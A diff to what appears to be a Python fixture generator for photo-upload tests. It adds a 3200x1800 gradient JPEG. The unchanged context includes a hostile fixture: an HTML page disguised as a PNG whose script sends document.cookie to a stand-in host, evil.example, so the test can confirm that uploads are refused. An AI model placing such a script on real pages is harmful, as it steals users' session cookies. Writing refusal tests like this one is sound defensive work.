@@ -12,6 +12,7 @@ Photos as a phone sends them, metadata and all:
   photo-progressive.jpg   the same, progressive (several scans) with restart markers
   photo-text.png          32x24, tEXt, iTXt (XMP), zTXt, eXIf (GPS) and tIME chunks
   document.pdf            a minimal valid one-page PDF
+  photo-large.jpg         3200x1800, larger than the page's script sends (it scales to 2560 px)
 Hostile files, all to be refused:
   html-named.png          an HTML page named like a photo
   script.svg              an SVG image with a script
@@ -95,6 +96,17 @@ def jpeg(**options) -> bytes:
     return data
 
 
+def large_photo() -> bytes:
+    """Smooth gradients (so the file stays small) at a size a phone's camera gives."""
+    size = (3200, 1800)
+    red = Image.linear_gradient("L").resize(size)
+    green = Image.linear_gradient("L").rotate(90).resize(size)
+    image = Image.merge("RGB", [red, green, Image.new("L", size, 128)])
+    buffer = io.BytesIO()
+    image.save(buffer, "JPEG", quality=80)
+    return buffer.getvalue()
+
+
 def segments(data: bytes) -> list:
     """The marker codes of a JPEG's segments up to its first scan."""
     codes, position = [], 2
@@ -161,6 +173,7 @@ def main() -> None:
         "photo-gps.jpg": photo_gps,
         "photo-progressive.jpg": jpeg(progressive=True, restart_marker_blocks=4),
         "photo-text.png": photo_text,
+        "photo-large.jpg": large_photo(),
         "document.pdf": pdf(),
         "html-named.png": b"<!DOCTYPE html>\n<html><body><h1>Your claim</h1>"
         b"<script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n",
